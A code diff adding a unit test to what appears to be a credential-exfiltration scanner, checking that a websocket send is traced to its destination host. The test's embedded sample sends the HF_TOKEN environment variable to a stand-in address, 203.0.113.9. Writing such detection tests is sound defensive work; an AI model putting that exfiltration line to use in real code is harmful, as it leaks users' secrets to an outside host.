@@ -495,6 +495,16 @@ def test_an_address_spelled_by_doubling_constants_is_not_built() -> None:
     assert all(f.destination.host is None or len(f.destination.host) < 300 for f in found)
 
 
+def test_what_is_sent_on_a_websocket_goes_to_the_host_it_connected_to() -> None:
+    source = """
+import os, websocket
+ws = websocket.create_connection("wss://203.0.113.9/ws")
+ws.send(os.environ.get("HF_TOKEN"))
+"""
+    found = [f for f in flows_of(source) if f.source is Source.CREDENTIAL]
+    assert found and found[0].destination.host == "203.0.113.9", flows_of(source)
+
+
 def test_exfil_flow_benign_api_client_sends_its_token_to_a_parameter_url(tmp_path: Path) -> None:
     verdict, findings = scan_package(
         tmp_path,
